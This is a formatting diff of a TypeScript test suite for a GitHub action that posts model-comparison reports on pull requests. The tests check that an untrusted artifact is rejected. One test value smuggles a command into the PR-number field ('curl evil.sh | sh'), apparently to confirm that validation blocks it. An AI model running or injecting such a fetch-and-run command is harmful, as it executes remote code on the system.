@@ -75,7 +75,8 @@ describe('pr-report action', () => {
 
     // A busy PR: 75 comments by people, including one that quotes the marker, come first.
     const ours = gh.comments.get(7)!.splice(0, 1)[0];
-    for (let i = 0; i < 75; i++) gh.addComment(7, i === 10 ? `quoting ${COMMENT_MARKER}` : `review comment ${i}`, `reviewer${i % 3}`);
+    for (let i = 0; i < 75; i++)
+      gh.addComment(7, i === 10 ? `quoting ${COMMENT_MARKER}` : `review comment ${i}`, `reviewer${i % 3}`);
     gh.comments.get(7)!.push(ours);
     gh.requests.length = 0;
 
@@ -106,7 +107,20 @@ describe('pr-report action', () => {
     expect(r.outputs.decision).toBe('keep');
     expect(r.outputs['comment-url']).toMatch(/#issuecomment-\d+$/);
     // What a reviewer needs, in one comment.
-    for (const part of ['Keep champion v1', 'Champion vs challenger', 'Confusion matrices at the threshold', 'Expected cost per applicant', 'Overfitting', 'Schema changes', 'Training time', 'Lint score', '9.40/10', 'Tests', 'xychart-beta', 'full report']) {
+    for (const part of [
+      'Keep champion v1',
+      'Champion vs challenger',
+      'Confusion matrices at the threshold',
+      'Expected cost per applicant',
+      'Overfitting',
+      'Schema changes',
+      'Training time',
+      'Lint score',
+      '9.40/10',
+      'Tests',
+      'xychart-beta',
+      'full report',
+    ]) {
       expect(body).toContain(part);
     }
     // The failed test's name came from the artifact: no raw HTML, no @-mention survives.
@@ -144,7 +158,9 @@ describe('pr-report action', () => {
   });
 
   it('only writes the summary for a push report and in summary mode, without calling the API', async () => {
-    const pushReport = copyArtifact((d) => editJson(d, 'context.json', (c) => ((c.event = 'push'), (c.pull_request = null))));
+    const pushReport = copyArtifact((d) =>
+      editJson(d, 'context.json', (c) => ((c.event = 'push'), (c.pull_request = null))),
+    );
     const push = await runAction('pr-report', {
       event: 'push',
       payload: { ref: 'refs/heads/main', after: HEAD_SHA },
@@ -178,9 +194,21 @@ describe('pr-report action', () => {
   describe('treats the artifact as untrusted', () => {
     // Checks made by the entry point itself (repository, head): run as the runner would.
     const actionCases: [string, (d: string) => void, RegExp][] = [
-      ['a PR number that is not a number', (d) => editJson(d, 'context.json', (c) => (c.pull_request = '7; curl evil.sh | sh')), /context\.json is invalid:[\s\S]*\/pull_request/],
-      ['another repository', (d) => editJson(d, 'context.json', (c) => (c.repository = 'evil/repo')), /is for evil\/repo, not this repository/],
-      ['a head the uploading run did not build', (d) => editJson(d, 'context.json', (c) => (c.head_sha = 'd'.repeat(40))), /the workflow run that uploaded it built/],
+      [
+        'a PR number that is not a number',
+        (d) => editJson(d, 'context.json', (c) => (c.pull_request = '7; curl evil.sh | sh')),
+        /context\.json is invalid:[\s\S]*\/pull_request/,
+      ],
+      [
+        'another repository',
+        (d) => editJson(d, 'context.json', (c) => (c.repository = 'evil/repo')),
+        /is for evil\/repo, not this repository/,
+      ],
+      [
+        'a head the uploading run did not build',
+        (d) => editJson(d, 'context.json', (c) => (c.head_sha = 'd'.repeat(40))),
+        /the workflow run that uploaded it built/,
+      ],
     ];
     for (const [what, edit, message] of actionCases) {
       it(`rejects ${what} before calling GitHub`, async () => {
@@ -192,15 +220,48 @@ describe('pr-report action', () => {
     }
     // Schema and consistency checks of the artifact reader, in-process.
     const readerCases: [string, (d: string) => void, RegExp][] = [
-      ['a negative PR number', (d) => editJson(d, 'context.json', (c) => (c.pull_request = -1)), /context\.json is invalid:[\s\S]*\/pull_request/],
-      ['malformed JSON', (d) => writeFileSync(join(d, 'verdict.json'), '{"decision": "promote",'), /verdict\.json: malformed JSON/],
-      ['a verdict with an unknown decision', (d) => editJson(d, 'verdict.json', (v) => (v.decision = 'merge-and-deploy')), /verdict\.json is invalid:[\s\S]*\/decision: must be one of/],
-      ['a verdict for another model', (d) => editJson(d, 'verdict.json', (v) => ((v.challenger as { digest: string }).digest = 'sha256:' + '1'.repeat(64))), /verdict\.json is for model/],
+      [
+        'a negative PR number',
+        (d) => editJson(d, 'context.json', (c) => (c.pull_request = -1)),
+        /context\.json is invalid:[\s\S]*\/pull_request/,
+      ],
+      [
+        'malformed JSON',
+        (d) => writeFileSync(join(d, 'verdict.json'), '{"decision": "promote",'),
+        /verdict\.json: malformed JSON/,
+      ],
+      [
+        'a verdict with an unknown decision',
+        (d) => editJson(d, 'verdict.json', (v) => (v.decision = 'merge-and-deploy')),
+        /verdict\.json is invalid:[\s\S]*\/decision: must be one of/,
+      ],
+      [
+        'a verdict for another model',
+        (d) =>
+          editJson(
+            d,
+            'verdict.json',
+            (v) => ((v.challenger as { digest: string }).digest = 'sha256:' + '1'.repeat(64)),
+          ),
+        /verdict\.json is for model/,
+      ],
       ['a missing comparison', (d) => writeFileSync(join(d, 'comparison.json'), 'null'), /comparison\.json is invalid/],
-      ['an oversized free-text field', (d) => editJson(d, 'verdict.json', (v) => (v.summary = 'x'.repeat(5000))), /\/summary: must NOT have more than 1000 characters/],
-      ['a ROC curve with the wrong number of points', (d) => editJson(d, 'comparison.json', (c) => (c.challenger as { roc_tpr: number[] }).roc_tpr.pop()), /roc_tpr must have one value per/],
+      [
+        'an oversized free-text field',
+        (d) => editJson(d, 'verdict.json', (v) => (v.summary = 'x'.repeat(5000))),
+        /\/summary: must NOT have more than 1000 characters/,
+      ],
+      [
+        'a ROC curve with the wrong number of points',
+        (d) => editJson(d, 'comparison.json', (c) => (c.challenger as { roc_tpr: number[] }).roc_tpr.pop()),
+        /roc_tpr must have one value per/,
+      ],
       ['a missing required file', (d) => rmSync(join(d, 'run.json')), /has no run\.json/],
-      ['a lint score above 10', (d) => editJson(d, 'lint-score.json', (l) => (l.score = 11)), /lint-score\.json is invalid:[\s\S]*\/score/],
+      [
+        'a lint score above 10',
+        (d) => editJson(d, 'lint-score.json', (l) => (l.score = 11)),
+        /lint-score\.json is invalid:[\s\S]*\/score/,
+      ],
     ];
     for (const [what, edit, message] of readerCases) {
       it(`rejects ${what}`, () => {
